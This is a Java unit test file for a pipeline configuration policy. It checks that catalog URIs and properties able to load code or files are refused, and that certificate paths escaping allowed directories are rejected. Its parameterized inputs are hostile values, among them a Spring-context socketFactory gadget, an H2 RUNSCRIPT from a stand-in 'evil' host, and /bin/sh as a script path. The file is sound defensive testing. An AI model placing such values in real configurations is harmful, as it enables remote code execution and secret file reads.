package io.sluice.service.definition;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.sluice.config.ConfigException;
import io.sluice.config.PipelineConfigReader;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ReferencePolicyTest {

    private final ReferencePolicy policy = new ReferencePolicy(List.of());

    private static String catalog(String type, String uri, String properties) {
        return """
                pipeline:
                  name: shop
                source:
                  type: postgres
                  hostname: localhost
                  database-name: shop
                  username: sluice
                  ssl-mode: verify-full
                  tables: public.orders
                sink:
                  type: iceberg
                  namespace: shop
                  catalog:
                    type: %s
                    uri: '%s'
                    warehouse: warehouse
                    properties: {%s}
                """.formatted(type, uri, properties);
    }

    private List<String> refusals(String yaml) {
        return refusals(policy, yaml);
    }

    private static List<String> refusals(ReferencePolicy policy, String yaml) {
        ConfigException refused = catchThrowableOfType(
                ConfigException.class,
                () -> policy.require(PipelineConfigReader.ofProcess().read("body", yaml)));
        return refused == null
                ? List.of()
                : refused.problems().stream().map(Object::toString).toList();
    }

    @Test
    void what_pipelines_usually_name_is_allowed() {
        assertThat(refusals(catalog("jdbc", "jdbc:sqlite:catalog.db", ""))).isEmpty();
        assertThat(refusals(catalog("jdbc", "jdbc:postgresql://db/catalog?sslmode=require", "jdbc.user: lake")))
                .isEmpty();
        assertThat(
                        refusals(
                                catalog(
                                        "rest",
                                        "https://catalog.example",
                                        "io-impl: org.apache.iceberg.hadoop.HadoopFileIO, fs.s3a.endpoint: 'http://s3',"
                                                + " fs.s3a.aws.credentials.provider: org.apache.hadoop.fs.s3a.SimpleAWSCredentialsProvider")))
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://db/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
                "jdbc:postgresql://db/x?user=a&SSLFACTORY=evil.Factory",
                "jdbc:postgresql://db/x?loggerLevel=DEBUG&loggerFile=/tmp/x",
                "jdbc:postgresql://db/x?%73ocketFactory=evil.Factory",
                "jdbc:sqlite:x.db?enable_load_extension=true",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM ''http://evil''"
            })
    void a_uri_that_loads_code_or_files_is_refused(String uri) {
        assertThat(refusals(catalog("jdbc", uri, "")))
                .isNotEmpty()
                .allMatch(problem -> problem.contains("sink.catalog.uri") && !problem.contains("evil"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "io-impl: evil.Io",
                "jdbc.socketFactory: x",
                "metrics-reporter-impl: com.evil.Reporter",
                "fs.s3a.aws.credentials.provider: 'org.apache.hadoop.fs.s3a.X, com.evil.Provider'",
                "hadoop.security.credential.provider.path: 'jceks://file/etc/secret'",
                "net.topology.script.file.name: /bin/sh"
            })
    void a_property_that_loads_code_or_files_is_refused(String property) {
        assertThat(refusals(catalog("jdbc", "jdbc:sqlite:catalog.db", property)))
                .singleElement()
                .asString()
                .contains("sink.catalog.properties.")
                .doesNotContain("com.evil");
    }

    @Test
    void a_catalog_of_an_unknown_class_is_refused() {
        assertThat(refusals(catalog("com.evil.Catalog", "x", ""))).isNotEmpty();
        assertThat(refusals(catalog("org.apache.iceberg.inmemory.InMemoryCatalog", "x", "")))
                .isEmpty();
    }

    @Test
    void files_of_an_encrypted_connection_are_below_the_allowed_directories_wherever_links_lead(@TempDir Path root)
            throws IOException {
        Path secrets = Files.createDirectory(root.resolve("secrets"));
        Path inside = Files.createFile(secrets.resolve("ca.pem"));
        Path outside = Files.createFile(root.resolve("outside.pem"));
        Path link = Files.createSymbolicLink(secrets.resolve("link.pem"), outside);
        ReferencePolicy some = new ReferencePolicy(List.of(secrets));

        assertThat(refusals(some, encrypted(inside, inside, inside))).isEmpty();
        assertThat(refusals(some, encrypted(secrets.resolve("../outside.pem"), inside, inside)))
                .singleElement()
                .asString()
                .contains("source.ssl-root-cert");
        assertThat(refusals(some, encrypted(inside, outside, inside)))
                .singleElement()
                .asString()
                .contains("source.ssl-cert");
        assertThat(refusals(some, encrypted(inside, inside, link)))
                .singleElement()
                .asString()
                .contains("source.ssl-key");
        assertThat(refusals(some, encrypted(inside, inside, secrets.resolve("missing"))))
                .singleElement()
                .asString()
                .contains("source.ssl-key", "no file");
    }

    private static String encrypted(Path root, Path certificate, Path key) {
        return catalog("jdbc", "jdbc:sqlite:catalog.db", "")
                .replace("  ssl-mode: verify-full\n", """
                  ssl-mode: verify-full
                  ssl-root-cert: %s
                  ssl-cert: %s
                  ssl-key: %s
                """.formatted(root, certificate, key));
    }
}
